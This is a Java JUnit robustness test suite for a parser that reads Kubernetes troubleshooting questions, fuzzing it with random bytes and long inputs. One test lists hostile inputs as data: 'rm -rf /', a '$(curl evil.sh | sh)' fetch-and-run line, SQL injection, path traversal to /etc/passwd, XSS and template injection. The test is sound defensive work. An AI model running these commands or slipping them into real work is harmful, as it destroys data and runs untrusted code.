package dev.terwaydoctor.ask;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RobustnessTest {

    private static final QuestionParser PARSER = QuestionParser.standard();
    private static final Context NOW = Context.at(LabelledQuestion.NOW);
    private static final Duration PATIENCE = Duration.ofSeconds(2);

    @Test
    void randomBytesAreNeverTooMuch() {
        Random random = new Random(7);
        for (int i = 0; i < 200; i++) {
            byte[] bytes = new byte[random.nextInt(400)];
            random.nextBytes(bytes);
            parse(new String(bytes, StandardCharsets.UTF_8));
            parse(new String(bytes, StandardCharsets.ISO_8859_1));
            parse(new String(bytes, StandardCharsets.UTF_16));
        }
    }

    @Test
    void questionsCutAndMixedAreNeverTooMuch() {
        Random random = new Random(11);
        List<String> questions = LabelledQuestion.all().values().stream()
                .flatMap(List::stream)
                .map(LabelledQuestion::q)
                .toList();
        for (int i = 0; i < 2_000; i++) {
            String one = questions.get(random.nextInt(questions.size()));
            String other = questions.get(random.nextInt(questions.size()));
            parse(one.substring(random.nextInt(one.length() + 1))
                    + other.substring(0, random.nextInt(other.length() + 1)));
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a",
                "-",
                "/",
                "{",
                "}",
                "'",
                "\"",
                "`",
                "<",
                "<@",
                "a-",
                "a.",
                "a/b ",
                "pod ",
                "in ",
                "pod a ",
                "a, ",
                "and a ",
                "since 10:30 ",
                "\n",
                "web-0 0/1 Error 0 3m\n",
                "key: value\n",
                "{\"name\":",
                "下",
                "没有",
                "日志的",
                "faling ",
                "10.0.0.1 ",
                "why is a-1 down? ",
                "E0504 10:12:00 x\n"
            })
    void longTextsAreReadInTime(String piece) {
        String text = piece.repeat(10_000 / piece.length());

        Assertions.assertTimeoutPreemptively(PATIENCE, () -> parse(text));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "; rm -rf /",
                "$(curl evil.sh | sh)",
                "why is pod `rm -rf /` failing",
                "' OR 1=1 --",
                "../../etc/passwd",
                "{{7*7}}",
                "<script>alert(1)</script>",
                "%s%s%n",
                "(a+)+$",
            })
    void whatLooksLikeAnAttackNamesNothingThatIsNoName(String text) {
        Hints hints = LabelledQuestion.hints(parse(text).intent());

        assertThat(hints.names())
                .allSatisfy(name -> assertThat(Shape.isName(name.text())).isTrue());
        assertThat(hints.namespaces())
                .allSatisfy(name -> assertThat(Shape.isLabel(name)).isTrue());
    }

    @Test
    void theParserIsNotChangedByWhatItReads() {
        Asked before = parse("why is web-0 in shop failing");
        parse("x".repeat(9_000));

        assertThat(parse("why is web-0 in shop failing")).isEqualTo(before);
    }

    private static Asked parse(String text) {
        Asked asked = PARSER.parse(text, NOW);
        assertThat(asked.question().text().length()).isLessThanOrEqualTo(Question.MAX_CHARS);
        return asked;
    }
}
